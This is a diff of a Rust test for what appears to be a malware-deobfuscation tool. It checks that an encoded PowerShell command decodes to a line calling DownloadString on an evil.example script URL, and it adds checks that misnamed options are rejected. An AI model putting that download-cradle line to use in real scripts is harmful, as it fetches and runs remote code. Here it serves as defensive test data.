@@ -62,6 +62,12 @@ fn decode_powershell_encoded_command() {
     let annotated = get(&result, "annotated").as_string().unwrap();
     assert!(annotated.contains("DownloadString('http://evil.example/a.ps1')"), "{annotated}");
     assert_eq!(ioc_types().len(), 14);
+    // Numbers from JS are accepted for integer limits; a mistyped one is not.
+    let limits = js_sys::JSON::parse(r#"{"max_depth": 1, "max_total_bytes": 1000000}"#).unwrap();
+    assert!(decode_text(&text, limits).is_ok());
+    let typo = js_sys::JSON::parse(r#"{"maxDepth": 1}"#).unwrap();
+    let err = decode_text(&text, typo).err().unwrap();
+    assert_eq!(get(&err, "kind").as_string().unwrap(), "invalid_option");
 }
 
 fn base64_encode(bytes: &[u8]) -> String {
